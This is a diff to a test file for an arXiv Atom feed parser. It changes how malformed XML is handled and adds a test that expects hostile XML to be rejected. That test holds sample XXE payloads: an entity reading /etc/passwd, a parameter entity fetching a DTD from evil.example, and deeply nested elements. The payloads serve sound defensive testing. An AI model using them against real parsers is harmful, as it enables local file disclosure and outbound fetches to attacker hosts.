@@ -74,12 +74,34 @@ describe('arxiv-atom parser', () => {
     ]);
   });
 
-  it('refuses malformed XML as a whole, naming the file', () => {
-    const truncated = fixture('arxiv-api-sample.xml').slice(0, 1500);
-    expect(() => [...parser.parse(truncated, { file: 'cut.xml', today: '2025-11-20', firstLine: 1 })]).toThrow(
+  it('reads malformed XML an entry at a time: a broken entry is skipped at its line, the rest kept', () => {
+    const lines = fixture('arxiv-api-sample.xml').split('\n');
+    lines[37] = lines[37]!.slice(0, 5); // the second <entry> tag, cut
+    lines[57] = lines[57]!.slice(0, 20); // the third entry's title, cut
+    const { records, skipped } = parseAll(parser, lines.join('\n'));
+    expect(records.map((r) => r.line)).toEqual([10]);
+    expect(skipped.map((s) => s.line)).toEqual([56, 39]);
+    expect(skipped[0]?.reason).toMatch(/^malformed XML in this <entry>, at line 66: /);
+    expect(skipped[1]?.reason).toMatch(/^malformed XML: .*; the entry elements were read one by one$/);
+    // Nothing to salvage: the file as a whole is refused, naming it.
+    expect(() => [...parser.parse(fixture('arxiv-api-sample.xml').slice(0, 500), { file: 'cut.xml', today: '2025-11-20', firstLine: 1 })]).toThrow(
       expect.objectContaining({ code: 'BAD_INPUT', message: expect.stringMatching(/^cut\.xml: malformed XML/) }),
     );
     expect(() => parseAll(parser, '<html><body>hi</body></html>')).toThrow(/neither an Atom feed nor an RSS channel/);
+  });
+
+  it('refuses hostile XML (external and parameter entities, deep nesting) as a BAD_INPUT naming the file', () => {
+    const entry = '<entry><id>http://arxiv.org/abs/2401.00001v1</id><title>T</title><summary>S</summary></entry>';
+    const hostile = {
+      external: `<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<feed>${entry.replace('T<', '&xxe;<')}</feed>`,
+      parameter: `<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n<feed>${entry}</feed>`,
+      deep: `<feed>${entry.replace('S<', `${'<b>'.repeat(500)}${'</b>'.repeat(500)}<`)}</feed>`,
+    };
+    for (const xml of Object.values(hostile)) {
+      expect(() => [...parser.parse(xml, { file: 'hostile.xml', today: '2025-11-20', firstLine: 1 })]).toThrow(
+        expect.objectContaining({ code: 'BAD_INPUT', message: expect.stringMatching(/^hostile\.xml: /) }),
+      );
+    }
   });
 
   it('detects arXiv feeds with confidence, other feeds less, other text not at all', () => {
